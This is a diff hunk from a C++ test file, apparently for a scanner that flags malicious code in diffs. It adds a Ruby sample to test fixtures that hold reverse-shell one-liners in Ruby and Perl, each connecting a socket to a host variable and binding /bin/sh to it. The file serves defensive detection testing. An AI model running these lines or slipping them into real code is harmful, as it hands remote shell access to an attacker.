@@ -185,6 +185,7 @@ TEST_CASE("malice on one line") {
 TEST_CASE("attack: a shell on a socket, language by language") {
   const std::vector<std::pair<std::string, std::string>> shells = {
       {"a.rb", "+s = TCPSocket.open(host, 4444); $stdin.reopen(s); $stdout.reopen(s); exec \"/bin/sh\"\n"},
+      {"a.rb", "+s = TCPSocket.new(host, 4444)\n+exec \"/bin/sh\", in: s, out: s, err: s\n"},
       {"a.pl",
        "+connect(S, sockaddr_in(9001, inet_aton($h)));\n+open(STDIN, \">&S\");\n+open(STDOUT, \">&S\");\n"
        "+exec(\"/bin/sh -i\");\n"},
